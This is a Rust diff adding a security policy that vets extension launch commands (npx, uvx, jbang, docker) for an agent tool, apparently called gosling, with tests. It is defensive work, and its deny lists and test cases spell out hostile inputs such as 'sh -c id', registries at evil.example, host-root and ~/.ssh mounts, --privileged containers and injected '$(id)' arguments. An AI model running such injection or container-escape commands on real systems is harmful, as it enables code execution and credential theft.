+    refused: &[(&str, &str)],
+    mut check: impl FnMut(&str, &str) -> Result<(), PolicyError>,
+) -> Result<usize, PolicyError> {
+    let mut i = 0;
+    while i < args.len() {
+        let a = args[i].as_str();
+        if a == "--" {
+            return Ok(i + 1);
+        }
+        if !a.starts_with('-') || a == "-" {
+            return Ok(i);
+        }
+        let (opt, glued) = a.split_once('=').map_or((a, None), |(o, v)| (o, Some(v)));
+        if let Some((_, why)) = refused.iter().find(|(o, _)| *o == opt) {
+            return Err(PolicyError::InlineCode { cmd: cmd.into(), arg: a.into(), why: format!("`{opt}` {why}") });
+        }
+        if flags.contains(&a) {
+            i += 1;
+        } else if valued.contains(&opt) {
+            let v = match glued {
+                Some(v) => v,
+                None => {
+                    i += 1;
+                    args.get(i).map(String::as_str).ok_or_else(|| not_package(cmd, a, "the option needs a value"))?
+                }
+            };
+            check(opt, v)?;
+            i += 1;
+        } else {
+            return Err(PolicyError::InlineCode {
+                cmd: cmd.into(),
+                arg: a.into(),
+                why: format!(
+                    "`{opt}` is not one of the {cmd} options links may use ({}); others can run code or change where packages come from",
+                    flags.iter().chain(valued).copied().collect::<Vec<_>>().join(", ")
+                ),
+            });
+        }
+    }
+    Ok(i)
+}
+
+fn check_npx(cmd: &str, args: &[String]) -> Result<(), PolicyError> {
+    const RUNS: &str = "can run an arbitrary shell command or code (code injection)";
+    const SOURCE: &str = "changes where packages come from or how npm runs them";
+    let mut named_package = false;
+    let i = launcher_options(
+        cmd,
+        args,
+        &["-y", "--yes", "--no", "-q", "--quiet", "--silent", "--prefer-offline", "--prefer-online", "--offline"],
+        &["-p", "--package"],
+        &[
+            ("-c", RUNS),
+            ("--call", RUNS),
+            ("-e", RUNS),
+            ("--eval", RUNS),
+            ("--node-options", RUNS),
+            ("--script-shell", RUNS),
+            ("--shell", RUNS),
+            ("--registry", SOURCE),
+            ("--userconfig", SOURCE),
+            ("--globalconfig", SOURCE),
+            ("--prefix", SOURCE),
+        ],
+        |_, v| {
+            named_package = true;
+            check_npm_spec(cmd, v).map(|_| ())
+        },
+    )?;
+    let Some(program) = args.get(i) else {
+        return Err(not_package(cmd, "", "npx needs a package to run"));
+    };
+    let bin = if named_package { check_bin_name(cmd, program)? } else { check_npm_spec(cmd, program)? };
+    // As goose does: `-c`/`--call` anywhere (npm has read options after the package too).
+    if let Some(a) = args[i + 1..].iter().find(|a| {
+        let opt = a.split_once('=').map_or(a.as_str(), |(o, _)| o);
+        opt == "-c" || opt == "--call"
+    }) {
+        return Err(PolicyError::InlineCode { cmd: cmd.into(), arg: a.clone(), why: format!("npx with `{a}` {RUNS}") });
+    }
+    check_program(cmd, &bin, &args[i + 1..])
+}
+
+fn check_uvx(cmd: &str, args: &[String]) -> Result<(), PolicyError> {
+    const SOURCE: &str = "changes where packages come from";
+    let mut from = false;
+    let i = launcher_options(
+        cmd,
+        args,
+        &[
+            "-q",
+            "--quiet",
+            "-v",
+            "--verbose",
+            "--offline",
+            "--refresh",
+            "--isolated",
+            "--no-cache",
+            "-n",
+            "--no-progress",
+        ],
+        &["--from", "--with", "-p", "--python", "--refresh-package"],
+        &[
+            ("--index", SOURCE),
+            ("--index-url", SOURCE),
+            ("-i", SOURCE),
+            ("--extra-index-url", SOURCE),
+            ("--default-index", SOURCE),
+            ("--find-links", SOURCE),
+            ("-f", SOURCE),
+            ("--with-requirements", "installs whatever a file lists"),
+            ("--with-editable", "installs a local directory"),
+            ("--env-file", "loads environment variables from a file"),
+        ],
+        |opt, v| match opt {
+            "--from" => {
+                from = true;
+                check_pypi_spec(cmd, v).map(|_| ())
+            }
+            "--with" => v.split(',').try_for_each(|p| check_pypi_spec(cmd, p.trim()).map(|_| ())),
+            "--refresh-package" => check_pypi_spec(cmd, v).map(|_| ()),
+            _ => {
+                if v.bytes().all(|b| b.is_ascii_alphanumeric() || b".@_+-".contains(&b)) {
+                    Ok(())
+                } else {
+                    Err(not_package(
+                        cmd,
+                        v,
+                        "--python takes a version or implementation name (`3.12`, `pypy@3.10`), not a path",
+                    ))
+                }
+            }
+        },
+    )?;
+    let Some(program) = args.get(i) else {
+        return Err(not_package(cmd, "", "uvx needs a package to run"));
+    };
+    let bin = if from { check_bin_name(cmd, program)? } else { check_pypi_spec(cmd, program)? };
+    check_program(cmd, &bin, &args[i + 1..])
+}
+
+fn check_jbang(cmd: &str, args: &[String]) -> Result<(), PolicyError> {
+    let args = if args.first().is_some_and(|a| a == "run") { &args[1..] } else { args };
+    let i = launcher_options(
+        cmd,
+        args,
+        &["-q", "--quiet", "--fresh", "--verbose", "-o", "--offline", "--no-cache"],
+        &["--java", "-j"],
+        &[
+            ("-c", "runs the source text given in the link"),
+            ("--code", "runs the source text given in the link"),
+            ("-R", "passes options to the JVM (agents, classpath)"),
+            ("--runtime-option", "passes options to the JVM (agents, classpath)"),
+            ("--javaagent", "loads a Java agent"),
+            ("--repos", "changes where dependencies come from"),
+            ("--cp", "adds code to the classpath"),
+            ("--class-path", "adds code to the classpath"),
+            ("--deps", "adds dependencies to what runs"),
+            ("--insecure", "turns off certificate checks"),
+        ],
+        |_, v| {
+            if v.bytes().all(|b| b.is_ascii_alphanumeric() || b"._-".contains(&b)) {
+                Ok(())
+            } else {
+                Err(not_package(cmd, v, "--java takes a version"))
+            }
+        },
+    )?;
+    let Some(program) = args.get(i) else {
+        return Err(not_package(cmd, "", "jbang needs a Maven coordinate or catalog alias to run"));
+    };
+    const WHAT: &str = "jbang runs a Maven coordinate `group:artifact:version` or a catalog alias `name@catalog`";
+    no_path_or_url(cmd, program, WHAT)?;
+    let ok_part = |s: &str| !s.is_empty() && s.bytes().all(|b| b.is_ascii_alphanumeric() || b"._+-".contains(&b));
+    let lower = program.to_ascii_lowercase();
+    let source_file = [".java", ".jsh", ".kt", ".groovy", ".md", ".jar"].iter().any(|s| lower.ends_with(s));
+    let gav = program.split(':').count() >= 3 && program.split(':').all(ok_part);
+    let alias = !program.contains(':') && program.split('@').count() <= 2 && program.split('@').all(ok_part);
+    if source_file || !(gav || alias) {
+        return Err(not_package(cmd, program, WHAT));
+    }
+    Ok(())
+}
+
+/// Host paths a container may not mount: the root, home directories, system and engine state.
+fn sensitive_mount(src: &str, home: Option<&str>) -> bool {
+    let s = src.trim_end_matches('/');
+    let drive = s.len() == 1 && s.bytes().all(|b| b.is_ascii_alphabetic());
+    if s.is_empty() || drive || s.starts_with(['~', '$', '.']) || s.ends_with(".sock") {
+        return true;
+    }
+    if !s.starts_with('/') {
+        return false; // a named volume
+    }
+    const ROOTS: [&str; 12] =
+        ["/root", "/home", "/Users", "/etc", "/proc", "/sys", "/dev", "/boot", "/run", "/var/run", "/var/lib", "/usr"];
+    let under = |root: &str| s == root || s.starts_with(&format!("{root}/"));
+    if ROOTS.iter().any(|r| under(r)) {
+        return true;
+    }
+    home.map(|h| h.trim_end_matches('/'))
+        .filter(|h| !h.is_empty())
+        .is_some_and(|h| under(h) || h.starts_with(&format!("{s}/")))
+}
+
+fn check_container(cmd: &str, args: &[String]) -> Result<(), PolicyError> {
+    let reach = |arg: &str, why: String| PolicyError::ContainerReach { cmd: cmd.into(), arg: arg.into(), why };
+    let rest = match args.first().map(String::as_str) {
+        Some("run") => &args[1..],
+        Some("container") if args.get(1).is_some_and(|a| a == "run") => &args[2..],
+        other => {
+            return Err(reach(
+                other.unwrap_or(""),
+                format!(
+                "links may only use `{cmd} run IMAGE …` (no global options such as -H/--context, no other subcommands)"
+            ),
+            ))
+        }
+    };
+    let home = std::env::var("HOME").ok();
+    const FLAGS: [&str; 10] =
+        ["-i", "--interactive", "-t", "--tty", "-it", "-ti", "--rm", "--init", "--read-only", "-q"];
+    const VALUED: [&str; 30] = [
+        "-e",
+        "--env",
+        "--name",
+        "-p",
+        "--publish",
+        "-w",
+        "--workdir",
+        "-u",
+        "--user",
+        "--entrypoint",
+        "--network",
+        "--net",
+        "--pid",
+        "--ipc",
+        "--uts",
+        "--userns",
+        "--cgroupns",
+        "-l",
+        "--label",
+        "--platform",
+        "-m",
+        "--memory",
+        "--cpus",
+        "--pull",
+        "--cap-drop",
+        "--tmpfs",
+        "-v",
+        "--volume",
+        "--mount",
+        "--add-host",
+    ];
+    const WIDEN: [&str; 11] = [
+        "--privileged",
+        "--cap-add",
+        "--device",
+        "--device-cgroup-rule",
+        "--security-opt",
+        "--volumes-from",
+        "--env-file",
+        "--gpus",
+        "--runtime",
+        "--group-add",
+        "--sysctl",
+    ];
+    let mut entrypoint: Option<String> = None;
+    let mut i = 0;
+    while i < rest.len() {
+        let a = rest[i].as_str();
+        if !a.starts_with('-') {
+            break;
+        }
+        let (opt, glued) = match a.split_once('=') {
+            Some((o, v)) if o.starts_with("--") => (o.to_string(), Some(v.to_string())),
+            _ => {
+                // `-v/:/host`, `-eKEY=V`: a short option with its value glued on.
+                let short =
+                    VALUED.iter().find(|o| o.len() == 2 && a.len() > 2 && a.starts_with(**o) && !a.starts_with("--"));
+                match short {
+                    Some(o) => (o.to_string(), Some(a[2..].to_string())),
+                    None => (a.to_string(), None),
+                }
+            }
+        };
+        if WIDEN.contains(&opt.as_str()) {
+            return Err(reach(a, format!("`{opt}` gives the container access to the host beyond its image")));
+        }
+        if FLAGS.contains(&opt.as_str()) && glued.is_none() {
+            i += 1;
+            continue;
+        }
+        if !VALUED.contains(&opt.as_str()) {
+            return Err(reach(
+                a,
+                format!(
+                    "`{opt}` is not one of the {cmd} run options links may use ({}, {})",
+                    FLAGS.join(", "),
+                    VALUED.join(", ")
+                ),
+            ));
+        }
+        let (v, shown) = match glued {
+            Some(v) => (v, a.to_string()),
+            None => {
+                i += 1;
+                let v = rest.get(i).cloned().ok_or_else(|| reach(a, format!("`{opt}` needs a value")))?;
+                let shown = format!("{a} {v}");
+                (v, shown)
+            }
+        };
+        let a = shown.as_str();
+        match opt.as_str() {
+            "--network" | "--net" | "--pid" | "--ipc" | "--uts" | "--userns" | "--cgroupns"
+                if v.eq_ignore_ascii_case("host") || v.starts_with("container:") =>
+            {
+                return Err(reach(a, format!("`{opt}={v}` shares the host's (or another container's) namespace")));
+            }
+            "-v" | "--volume" => {
+                let src = v.split(':').next().unwrap_or("");
+                if sensitive_mount(src, home.as_deref()) {
+                    return Err(reach(
+                        a,
+                        format!(
+                            "mounting `{src}` exposes the host's root, a home directory or system files to the image"
+                        ),
+                    ));
+                }
+            }
+            "--mount" => {
+                for kv in v.split(',') {
+                    if let Some(src) = kv.strip_prefix("source=").or_else(|| kv.strip_prefix("src=")) {
+                        if sensitive_mount(src, home.as_deref()) {
+                            return Err(reach(a, format!("mounting `{src}` exposes the host's root, a home directory or system files to the image")));
+                        }
+                    }
+                }
+            }
+            "--entrypoint" => entrypoint = Some(v),
+            // `-e NAME` copies NAME from the engine's environment into the container: never one
+            // of gosling's own secrets.
+            "-e" | "--env" => {
+                let name = v.split('=').next().unwrap_or("");
+                if crate::extensions::config::is_reserved_secret(name) {
+                    return Err(PolicyError::ReservedSecret { field: format!("{cmd} run {opt}"), name: name.into() });
+                }
+            }
+            _ => {}
+        }
+        i += 1;
+    }
+    let Some(image) = rest.get(i) else {
+        return Err(reach("", format!("`{cmd} run` needs an image")));
+    };
+    if !image.bytes().all(|b| b.is_ascii_alphanumeric() || b"._/:@-".contains(&b)) {
+        return Err(not_package(cmd, image, "an image is a name like `ghcr.io/org/server:tag`"));
+    }
+    let after = &rest[i + 1..];
+    match entrypoint {
+        Some(ep) => check_program(cmd, &ep, after),
+        None => match after.first() {
+            Some(prog) => check_program(cmd, prog, &after[1..]),
+            None => Ok(()),
+        },
+    }
+}
+
+/// Rule 2 for one command line; see the module header and docs/install.md for the grammar.
 fn check_args(cmd: &str, args: &[String]) -> Result<(), PolicyError> {
-    let refuse =
-        |arg: &str, why: String| Err(PolicyError::InlineCode { cmd: cmd.to_string(), arg: arg.to_string(), why });
     for arg in args {
         if let Some(m) = METACHARS.iter().find(|m| arg.contains(**m)) {
             return Err(PolicyError::ShellMetacharacter { arg: arg.clone(), pattern: m });
         }
     }
-    if cmd == "npx" || cmd == "npx.cmd" {
-        for arg in args {
-            let opt = arg.split_once('=').map_or(arg.as_str(), |(o, _)| o);
-            let cluster_c = arg.starts_with('-') && !arg.starts_with("--") && arg.len() > 1 && arg[1..].contains('c');
-            if matches!(opt, "-c" | "--call" | "-e" | "--eval" | "--node-options" | "--script-shell" | "--shell")
-                || cluster_c
-            {
-                return refuse(
-                    arg,
-                    format!("npx with `{opt}` can run an arbitrary shell command or code (code injection)"),
-                );
+    let name = program_name(cmd);
+    match name.as_str() {
+        "npx" => check_npx(cmd, args),
+        "uvx" => check_uvx(cmd, args),
+        "jbang" => check_jbang(cmd, args),
+        "docker" | "podman" => check_container(cmd, args),
+        "gosling" | "goosed" => {
+            if args.len() == 2 && args[0] == "mcp" && !args[1].starts_with('-') {
+                Ok(())
+            } else {
+                let shown = args.first().map_or("", String::as_str);
+                Err(PolicyError::InlineCode {
+                    cmd: cmd.into(),
+                    arg: shown.into(),
+                    why: format!("{cmd} may only be installed as `{cmd} mcp NAME` (a builtin extension), not to start a server or run other subcommands"),
+                })
             }
         }
+        _ => check_program(cmd, cmd, args),
     }
-    if (cmd == "gosling" || cmd == "goosed") && !(args.len() == 2 && args[0] == "mcp" && !args[1].starts_with('-')) {
-        let shown = args.first().map_or("", String::as_str);
-        return refuse(shown, format!("{cmd} may only be installed as `{cmd} mcp NAME` (a builtin extension), not to start a server or run other subcommands"));
-    }
-    if cmd == "jbang" {
-        for arg in args {
-            let opt = arg.split_once('=').map_or(arg.as_str(), |(o, _)| o);
-            if matches!(opt, "-c" | "--code") {
-                return refuse(arg, "jbang with `--code` runs the source text given in the link".into());
-            }
-        }
-    }
-    for (i, arg) in args.iter().enumerate() {
-        if let Some(interp) = interpreter(arg) {
-            if let Some(flag) = args[i + 1..].iter().find(|a| is_eval_flag(a)) {
-                return refuse(flag, format!("`{arg}` followed by `{flag}` makes {interp} run an inline script"));
-            }
-        }
-    }
-    Ok(())
 }
 
 /// Reads the local allowlist file: `(list, allowed_commands)`.
@@ -751,7 +1484,11 @@ mod tests {
     fn allowed_commands_rule_for_links_and_imports_only() {
         let p = Policy::permissive();
         for c in DEFAULT_COMMANDS {
-            let args: &[&str] = if c == "gosling" || c == "goosed" { &["mcp", "developer"] } else { &["pkg"] };
+            let args: &[&str] = match c {
+                "gosling" | "goosed" => &["mcp", "developer"],
+                "docker" => &["run", "-i", "--rm", "img"],
+                _ => &["pkg"],
+            };
             assert!(p.check(&stdio(c, args), InstallSource::DeepLink).is_ok(), "{c}");
         }
         for bad in ["bash", "/usr/bin/npx", "./npx", "NPX", "npx ", "python3", "node"] {
@@ -760,7 +1497,7 @@ mod tests {
             assert!(e.to_string().contains("allowed-commands rule"), "{e}");
             assert!(p.check(&stdio(bad, &[]), InstallSource::Import).is_err());
             for s in [InstallSource::ConfigApi, InstallSource::AddExtension, InstallSource::Cli] {
-                assert!(p.check(&stdio(bad, &[]), s).is_ok(), "{bad} via {s:?}");
+                assert!(p.check(&stdio(bad, &["pkg"]), s).is_ok(), "{bad} via {s:?}");
             }
         }
         assert!(p
@@ -770,60 +1507,223 @@ mod tests {
             .contains("paths are not allowed"));
     }
 
+    /// (command, args, a word the refusal must contain).
+    const REFUSED: &[(&str, &[&str], &str)] = &[
+        ("npx", &["-c", "echo hi"], "`-c`"),
+        ("npx", &["-y", "pkg", "-c", "x"], "-c"),
+        ("npx.cmd", &["-c", "x"], "`-c`"),
+        ("npx", &["--call", "x"], "--call"),
+        ("npx", &["--call=x"], "--call"),
+        ("npx", &["-yc", "x"], "-yc"),
+        ("npx", &["--eval=x"], "--eval"),
+        ("npx", &["--node-options=--require=/tmp/x.js", "pkg"], "--node-options"),
+        ("npx", &["--registry", "https://evil.example", "pkg"], "--registry"),
+        ("npx", &["awk", "BEGIN{system(\"id\")}"], "awk"),
+        ("npx", &["-y", "gawk", "BEGIN{}"], "gawk"),
+        ("npx", &["node", "--import=data:text/javascript,process.exit(1)"], "--import"),
+        ("npx", &["node", "-e", "1"], "-e"),
+        ("npx", &["node", "-pe", "1"], "-pe"),
+        ("npx", &["./evil"], "path"),
+        ("npx", &["/tmp/x"], "path"),
+        ("npx", &["https://evil.example/x.tgz"], "URL"),
+        ("npx", &["github:user/repo"], "package-spec"),
+        ("npx", &["user/repo"], "package-spec"),
+        ("npx", &["-p", "git+https://h/x", "x"], "URL"),
+        ("npx", &[], "needs a package"),
+        ("uvx", &["python", "-c", "import os"], "-c"),
+        ("uvx", &["python", "-cimport os"], "-cimport"),
+        ("uvx", &["python3.12", "-Ic", "1"], "-Ic"),
+        ("uvx", &["--from", "x", "python3.12", "-c", "import os"], "-c"),
+        ("uvx", &["ipython", "-c", "1"], "ipython"),
+        ("uvx", &["xonsh", "-c", "id"], "xonsh"),
+        ("uvx", &["--index-url", "https://evil/simple", "pkg"], "--index-url"),
+        ("uvx", &["--from", "git+https://github.com/x/y", "y-server"], "URL"),
+        ("uvx", &["--from", "./local", "y"], "path"),
+        ("uvx", &["--with-requirements", "r.txt", "y"], "--with-requirements"),
+        ("uvx", &["pkg;id"], "no-shell-syntax"),
+        ("uvx", &["a && b"], "no-shell-syntax"),
+        ("uvx", &["a\nb"], "no-shell-syntax"),
+        ("uvx", &["perl", "-e", "1"], "-e"),
+        ("uvx", &["perl", "-Mstrict", "x"], "-Mstrict"),
+        ("uvx", &["ruby", "-e", "1"], "-e"),
+        ("uvx", &["deno", "eval", "1"], "eval"),
+        ("uvx", &["php", "-r", "1"], "-r"),
+        ("uvx", &["lua", "-e", "1"], "-e"),
+        ("uvx", &["bash", "-lc", "id"], "-lc"),
+        ("uvx", &["fish", "--command", "id"], "--command"),
+        ("uvx", &["zsh", "-c", "id"], "-c"),
+        ("uvx", &["--from", "x", "python", "-m", "timeit", "__import__('os')"], "timeit"),
+        ("uvx", &["--from", "x", "python", "-Im", "timeit", "1"], "timeit"),
+        ("uvx", &["--from", "x", "python", "-mtimeit", "1"], "timeit"),
+        ("uvx", &["--from", "x", "python", "-X", "importtime", "-c", "1"], "-c"),
+        ("uvx", &["uv", "run", "python", "-c", "1"], "`uv`"),
+        ("npx", &["npx", "-c", "id"], "-c"),
+        ("npx", &["-y", "cross-env", "A=1", "sh"], "cross-env"),
+        ("npx", &["tsx", "-e", "1"], "-e"),
+        ("npx", &["-y", "zx", "--eval", "1"], "--eval"),
+        ("npx", &["node", "--run", "build"], "--run"),
+        ("jbang", &["--code", "class A{}"], "--code"),
+        ("jbang", &["-c", "x"], "-c"),
+        ("jbang", &["https://evil/x.java"], "URL"),
+        ("jbang", &["x.java"], "package-spec"),
+        ("jbang", &["-R", "-javaagent:/x.jar", "g:a:1"], "-R"),
+        ("docker", &["run", "-i", "alpine", "sh", "-c", "id"], "-c"),
+        ("docker", &["run", "--entrypoint=sh", "alpine", "-c", "id"], "-c"),
+        ("docker", &["run", "--entrypoint", "/bin/bash", "alpine", "-lc", "id"], "-lc"),
+        ("docker", &["run", "--privileged", "img"], "--privileged"),
+        ("docker", &["run", "--privileged=true", "img"], "--privileged"),
+        ("docker", &["run", "-v", "/:/host", "img"], "container-isolation"),
+        ("docker", &["run", "-v/:/host", "img"], "container-isolation"),
+        ("docker", &["run", "--volume=/home:/h", "img"], "container-isolation"),
+        ("docker", &["run", "-v", "~/.ssh:/s", "img"], "container-isolation"),
+        ("docker", &["run", "-v", "C:\\:/host", "img"], "container-isolation"),
+        ("docker", &["run", "-v", "/var/run/docker.sock:/d.sock", "img"], "container-isolation"),
+        ("docker", &["run", "--mount", "type=bind,source=/,target=/h", "img"], "container-isolation"),
+        ("docker", &["run", "--pid=host", "img"], "--pid"),
+        ("docker", &["run", "--pid", "host", "img"], "--pid"),
+        ("docker", &["run", "--network=host", "img"], "--network"),
+        ("docker", &["run", "--net", "host", "img"], "--net"),
+        ("docker", &["run", "--cap-add", "SYS_ADMIN", "img"], "--cap-add"),
+        ("docker", &["run", "--cap-add=ALL", "img"], "--cap-add"),
+        ("docker", &["run", "--device", "/dev/sda", "img"], "--device"),
+        ("docker", &["run", "--device=/dev/kmsg", "img"], "--device"),
+        ("docker", &["run", "-e", "OPENAI_API_KEY", "img"], "own-secrets rule"),
+        ("docker", &["run", "--env=GOOSE_SERVER__SECRET_KEY", "img"], "own-secrets rule"),
+        ("docker", &["-H", "tcp://evil:2375", "run", "img"], "container-isolation"),
+        ("docker", &["exec", "c", "sh"], "container-isolation"),
+        ("podman", &["run", "--privileged", "img"], "--privileged"),
+        ("gosling", &["agent", "--host", "0.0.0.0"], "agent"),
+        ("gosling", &["install", "--yes", "goose://extension?cmd=uvx&name=x"], "install"),
+        ("goosed", &["agent"], "agent"),
+        ("gosling", &["mcp"], "mcp"),
+    ];
+
+    const ALLOWED: &[(&str, &[&str])] = &[
+        ("npx", &["-y", "@modelcontextprotocol/server-everything"]),
+        ("npx", &["-y", "@modelcontextprotocol/server-everything@2025.1.14"]),
+        ("npx", &["-y", "mcp-remote", "https://h/mcp?a=1&b=2"]),
+        ("npx", &["--package", "@scope/pkg@latest", "pkg-bin", "--flag"]),
+        ("uvx", &["mcp-server-fetch"]),
+        ("uvx", &["mcp-server-fetch@latest"]),
+        ("uvx", &["mcp-server-git==0.6.2", "--repository", "r"]),
+        ("uvx", &["--from", "mcp-foo[cli]>=1.0", "mcp-foo"]),
+        ("uvx", &["--from", "mcp-foo", "python", "-m", "mcp_foo", "-c", "config.yaml"]),
+        ("uvx", &["--from", "mcp-foo", "python", "-Im", "mcp_foo", "-c", "x"]),
+        ("uvx", &["--from", "mcp-foo", "python", "-mmcp_foo", "-c", "x"]),
+        ("uvx", &["--python", "3.12", "python-dotenv-mcp", "-c", "x"]),
+        ("jbang", &["io.quarkiverse.mcp:mcp-server-jdbc:1.0.0", "jdbc:h2:mem:x"]),
+        ("jbang", &["jdbc@quarkiverse"]),
+        ("docker", &["run", "-i", "--rm", "-e", "TOKEN", "ghcr.io/github/github-mcp-server"]),
+        ("docker", &["run", "-i", "--rm", "-v", "/tmp/data:/data", "-v", "vol:/v", "img:1", "--x"]),
+        ("docker", &["run", "-i", "img", "python", "-m", "server"]),
+        ("podman", &["container", "run", "-i", "--network", "none", "img"]),
+        ("gosling", &["mcp", "developer"]),
+        ("goosed", &["mcp", "memory"]),
+    ];
+
     #[test]
-    fn inline_code_is_refused() {
+    fn inline_code_is_refused_on_every_path() {
         let p = Policy::permissive();
-        let refused: &[(&str, &[&str])] = &[
-            ("npx", &["-c", "echo hi"]),
-            ("npx", &["-y", "pkg", "-c", "x"]),
-            ("npx.cmd", &["-c", "x"]),
-            ("npx", &["--call", "x"]),
-            ("npx", &["--call=x"]),
-            ("npx", &["-yc", "x"]),
-            ("npx", &["-e", "x"]),
-            ("npx", &["--eval=x"]),
-            ("npx", &["--node-options=--require=/tmp/x.js", "pkg"]),
-            ("npx", &["--script-shell", "/bin/sh"]),
-            ("jbang", &["--code", "class A{}"]),
-            ("uvx", &["python", "-c", "import os"]),
-            ("uvx", &["--from", "x", "python3.12", "-c", "import os"]),
-            ("docker", &["run", "-i", "alpine", "sh", "-c", "id"]),
-            ("docker", &["run", "--entrypoint=sh", "alpine", "-c", "id"]),
-            ("docker", &["run", "--entrypoint", "/bin/bash", "alpine", "-lc", "id"]),
-            ("uvx", &["node", "--eval", "1"]),
-            ("npx", &["pkg", "$(id)"]),
-            ("npx", &["pkg", "`id`"]),
-            ("uvx", &["pkg;id"]),
-            ("uvx", &["a && b"]),
-            ("uvx", &["a | b"]),
-            ("uvx", &["a\nb"]),
-            ("gosling", &["agent", "--host", "0.0.0.0"]),
-            ("gosling", &["install", "--yes", "goose://extension?cmd=uvx&name=x"]),
-            ("goosed", &["agent"]),
-            ("gosling", &["mcp"]),
-        ];
-        for (cmd, args) in refused {
-            let e = p.check(&stdio(cmd, args), InstallSource::DeepLink).unwrap_err();
-            assert!(
-                matches!(e, PolicyError::InlineCode { .. } | PolicyError::ShellMetacharacter { .. }),
-                "{cmd} {args:?}: {e}"
-            );
+        for (cmd, args, word) in REFUSED {
+            for s in
+                [InstallSource::DeepLink, InstallSource::Import, InstallSource::ConfigApi, InstallSource::AddExtension]
+            {
+                if s.checks_commands() && !DEFAULT_COMMANDS.contains(cmd) {
+                    continue;
+                }
+                let Err(e) = p.check(&stdio(cmd, args), s) else { panic!("{cmd} {args:?} passed via {s:?}") };
+                assert!(
+                    matches!(
+                        e,
+                        PolicyError::InlineCode { .. }
+                            | PolicyError::ShellMetacharacter { .. }
+                            | PolicyError::NotAPackage { .. }
+                            | PolicyError::ContainerReach { .. }
+                            | PolicyError::ReservedSecret { .. }
+                    ),
+                    "{cmd} {args:?}: {e}"
+                );
+                let m = e.to_string();
+                assert!(m.contains(word) && m.contains("rule"), "{cmd} {args:?}: {m}");
+            }
         }
-        let fine: &[(&str, &[&str])] = &[
-            ("npx", &["-y", "@modelcontextprotocol/server-everything"]),
-            ("npx", &["-y", "mcp-remote", "https://h/mcp?a=1&b=2"]),
-            ("uvx", &["mcp-server-fetch"]),
-            ("uvx", &["--from", "git+https://github.com/x/y", "y-server", "--config", "c.json"]),
-            ("docker", &["run", "-i", "--rm", "-e", "TOKEN", "ghcr.io/github/github-mcp-server"]),
-            ("uvx", &["python-dotenv-mcp", "-c", "x"]),
-            ("gosling", &["mcp", "developer"]),
-            ("goosed", &["mcp", "memory"]),
-        ];
-        for (cmd, args) in fine {
-            assert!(p.check(&stdio(cmd, args), InstallSource::DeepLink).is_ok(), "{cmd} {args:?}");
+        for (cmd, args) in ALLOWED {
+            for s in [InstallSource::DeepLink, InstallSource::Import, InstallSource::ConfigApi] {
+                if s.checks_commands() && !DEFAULT_COMMANDS.contains(cmd) {
+                    continue;
+                }
+                assert!(p.check(&stdio(cmd, args), s).is_ok(), "{cmd} {args:?}: {:?}", p.check(&stdio(cmd, args), s));
+            }
         }
-        // The API paths take the user's own config: no argument rules there.
-        assert!(p.check(&stdio("npx", &["-c", "x"]), InstallSource::ConfigApi).is_ok());
+        // The cmd itself may be an interpreter on the API paths (the user's own config), but
+        // never with inline code.
+        for (cmd, args) in
+            [("bash", &["-c", "id"][..]), ("python3", &["-c", "1"]), ("/usr/bin/env", &["sh"]), ("awk", &["1"])]
+        {
+            let e = p.check(&stdio(cmd, args), InstallSource::ConfigApi).unwrap_err();
+            assert!(e.to_string().contains("no-inline-code rule"), "{e}");
+        }
+        assert!(p.check(&stdio("python3", &["server.py", "-c", "conf"]), InstallSource::ConfigApi).is_ok());
+        assert!(p.check(&stdio("node", &["build/index.js"]), InstallSource::ConfigApi).is_ok());
+    }
+
+    #[test]
+    fn env_and_own_secrets_are_refused_on_every_path() {
+        let p = Policy::permissive();
+        let with_env = |k: &str| {
+            ExtensionConfig::from_value(json!({"type":"stdio","name":"x","cmd":"uvx","args":["pkg"],"envs":{k:"v"}}))
+                .unwrap()
+        };
+        let with_key = |k: &str| {
+            ExtensionConfig::from_value(json!({"type":"stdio","name":"x","cmd":"uvx","args":["pkg"],"env_keys":[k]}))
+                .unwrap()
+        };
+        let with_header = |v: &str| {
+            ExtensionConfig::from_value(
+                json!({"type":"streamable_http","name":"r","uri":"http://h/mcp","headers":{"X-K":v}}),
+            )
+            .unwrap()
+        };
+        for s in [InstallSource::DeepLink, InstallSource::Import, InstallSource::ConfigApi, InstallSource::AddExtension]
+        {
+            for k in ["npm_config_node_options", "BASH_ENV", "PERL5OPT", "DOCKER_HOST", "https_proxy", "Ld_Preload"] {
+                let e = p.check(&with_env(k), s).unwrap_err().to_string();
+                assert!(e.contains("environment rule") && e.contains(k), "{e}");
+                assert!(p.check(&with_key(k), s).is_err());
+            }
+            // Own secrets: activation is refused; installing saves it disabled (`config::unresolved`).
+            for k in ["GOOSE_SERVER__SECRET_KEY", "OPENAI_API_KEY", "anthropic_api_key", "GOOSE_TLS_KEY_PATH"] {
+                let header = with_header(&format!("Bearer ${{{k}}}"));
+                if s == InstallSource::AddExtension {
+                    let e = p.check(&with_key(k), s).unwrap_err().to_string();
+                    assert!(e.contains("own-secrets rule") && e.contains(k), "{e}");
+                    let e = p.check(&header, s).unwrap_err().to_string();
+                    assert!(e.contains("own-secrets rule"), "{e}");
+                } else {
+                    assert!(p.check(&with_key(k), s).is_ok());
+                    let u = crate::extensions::config::unresolved(&header, &|_| true);
+                    assert_eq!(u.refused, [k]);
+                    assert!(u.explain().contains("may never read"), "{}", u.explain());
+                }
+            }
+            assert!(p.check(&with_env("API_KEY"), s).is_ok());
+            assert!(p.check(&with_key("GITHUB_TOKEN"), s).is_ok());
+            assert!(p.check(&with_header("Bearer ${API_TOKEN}"), s).is_ok());
+            // A literal value the user wrote is not read from the store.
+            assert!(p.check(&with_env("OPENAI_API_KEY"), s).is_ok());
+        }
+    }
+
+    #[test]
+    fn allowlist_entries_match_whole_argv() {
+        let argv = ["uvx", "mcp-server-fetch", "--x"];
+        assert!(argv_matches(&argv, "uvx mcp-server-fetch --x"));
+        assert!(argv_matches(&argv, "uvx  mcp-server-fetch *"));
+        assert!(argv_matches(&argv[..2], "uvx mcp-server-fetch *"));
+        assert!(!argv_matches(&argv, "uvx mcp-server-fetch"));
+        assert!(!argv_matches(&argv, "uvx mcp-server"));
+        assert!(!argv_matches(&["uvx", "mcp-server-fetch-x"], "uvx mcp-server-fetch"));
+        assert!(!argv_matches(&argv, ""));
     }
 
     #[test]
